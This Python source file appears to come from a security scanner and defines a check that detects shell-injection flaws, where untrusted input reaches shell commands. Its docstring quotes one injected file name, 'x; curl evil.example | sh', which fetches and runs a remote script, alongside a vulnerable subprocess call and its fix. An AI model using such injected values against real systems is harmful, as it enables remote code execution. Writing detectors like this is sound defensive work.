"""Outside text that becomes part of a shell command."""

from __future__ import annotations

from collections.abc import Iterator

from aisecops.checks.references import COMMAND_INJECTION, COMMAND_INTERPRETER
from aisecops.checks.source_file.subject import SourceFile
from aisecops.checks.source_file.telling import weaknesses
from aisecops.codebase.dataflow.program import Hit
from aisecops.core.asset import AssetKind
from aisecops.core.check import Context, check
from aisecops.core.finding import Weakness
from aisecops.core.taxonomy import Severity, Stage, Threat


@check(
    id="source-file/shell-injection",
    title="Outside text does not become part of a shell command",
    inputs=(AssetKind.SOURCE_FILE, AssetKind.NOTEBOOK),
    stage=Stage.CODE,
    threat=Threat.INSECURE_OPERATION,
    categories=("shell-injection",),
    refs=(COMMAND_INJECTION, COMMAND_INTERPRETER),
    heeds="hits",
)
def shell_injection(file: SourceFile, ctx: Context) -> Iterator[Weakness]:
    """Find shell commands that are put together from what somebody else has written.

    What it finds
        Text from requests, chats, uploads, fetched pages, command lines, ``input()`` and notebook widgets that reaches ``os.system``, ``subprocess`` with
        ``shell=True``, ``bash -c``, ``asyncio.create_subprocess_shell``, SSH commands, or a notebook's ``!command {variable}``.

    Why it matters
        The shell reads ``;``, ``|``, ``$(...)`` and newlines in that text as commands. Pipelines for data and models are full of ``ffmpeg``, ``gsutil`` and ``unzip``
        with file names that came from users: a file called ``x; curl evil.example | sh`` is enough.

    Example
        ``subprocess.run(f"ffmpeg -i {upload.filename} out.wav", shell=True)``

    How to fix
        Pass a list and no ``shell=True``: ``subprocess.run(["ffmpeg", "-i", name, "out.wav"])``; where a shell is needed, ``shlex.quote`` every piece.

    Limits
        Text that a function is merely handed is judged where the function is called. What a model has written is for source-file/model-output-to-shell.

    References
        CWE-78; MITRE ATLAS AML.T0050 (Command and Scripting Interpreter).
    """
    yield from weaknesses(file, "shell-injection", _graded)


_FAR = 6
"""Steps after which an argument of the command line only decides which record is looked up, not what that says."""


def _graded(hit: Hit) -> Severity | None:
    """Whoever writes the command line could have run the command himself: it is his mistakes that it turns into commands."""
    if hit.label == "command-line":
        return Severity.LOW if len(hit.trail) <= _FAR else None
    severity: Severity = hit.entry.severity
    return severity
